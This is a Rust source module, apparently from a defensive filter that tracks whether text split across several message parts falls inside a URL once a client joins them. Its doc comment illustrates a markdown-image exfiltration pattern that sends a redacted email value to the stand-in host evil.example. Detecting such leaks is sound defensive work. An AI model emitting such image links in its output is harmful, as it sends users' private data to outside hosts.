//! Knows whether a text stands inside a URL where clients put several texts together: the parts of one message are one text for
//! whoever joins them, and each its own for whoever does not.
//!
//! ```text
//! parts    "![x](https://evil.example/?q="   "<EMAIL_…>) and so on"
//! joined   "![x](https://evil.example/?q=<EMAIL_…>) and so on"        a URL, and a value in it would be sent
//! ```
//! Two readers go over every part but the first: one that has read the parts before it, one that has not. Where either stands in
//! a URL, the text does.

use std::fmt;

use super::undone::Links;
use super::unit::{Landing, Unit};

/// What was read of the parts of a message so far; nothing before the first.
#[derive(Clone, Default)]
pub struct Thread(Option<Links>);

/// The readers of one part.
#[derive(Debug, Clone)]
pub(super) struct Joined {
    /// Has read all parts.
    all: Links,
    /// Has read this part alone, where there are others.
    alone: Option<Links>,
}

impl Joined {
    /// The readers of a text that stands for itself.
    pub(super) fn new(landing: Landing) -> Self {
        Self { all: Links::new(landing), alone: None }
    }

    /// Goes on behind what was read of other parts.
    pub(super) fn go_on(&mut self, thread: &Thread) {
        if let Some(links) = &thread.0 {
            let before = std::mem::replace(&mut self.all, links.clone());
            self.alone.get_or_insert(before);
        }
    }

    /// What was read of all parts.
    pub(super) fn thread(&self) -> Thread {
        Thread(Some(self.all.clone()))
    }

    /// Whether the text stands inside a URL, for any renderer.
    pub(super) fn is_inside(&self) -> bool {
        self.all.is_inside() || self.alone.as_ref().is_some_and(Links::is_inside)
    }

    /// Whether a number that follows would be of the port of a host, for any renderer.
    pub(super) fn is_at_port(&self) -> bool {
        self.all.is_at_port() || self.alone.as_ref().is_some_and(Links::is_at_port)
    }

    /// Whether what follows must be read character by character.
    pub(super) fn is_watchful(&self) -> bool {
        self.all.is_watchful() || self.alone.as_ref().is_some_and(Links::is_watchful)
    }

    /// Host and port, where the text stands in a URL that surely leads there, however it is read.
    pub(super) fn authority(&self) -> Option<&str> {
        let Some(alone) = &self.alone else { return self.all.authority() };
        match (self.all.is_inside(), alone.is_inside()) {
            (true, false) => self.all.authority(),
            (false, true) => alone.authority(),
            _ => self.all.authority().filter(|authority| alone.authority() == Some(authority)),
        }
    }

    /// Notes that something stands here that is not read: the URL may lead anywhere.
    pub(super) fn spoil(&mut self) {
        self.all.spoil();
        if let Some(alone) = &mut self.alone {
            alone.spoil();
        }
    }

    /// Passes one character.
    pub(super) fn pass(&mut self, unit: Unit) {
        self.all.pass(unit);
        if let Some(alone) = &mut self.alone {
            alone.pass(unit);
        }
    }
}

impl fmt::Debug for Thread {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_tuple("Thread").field(&self.0.is_some()).finish()
    }
}
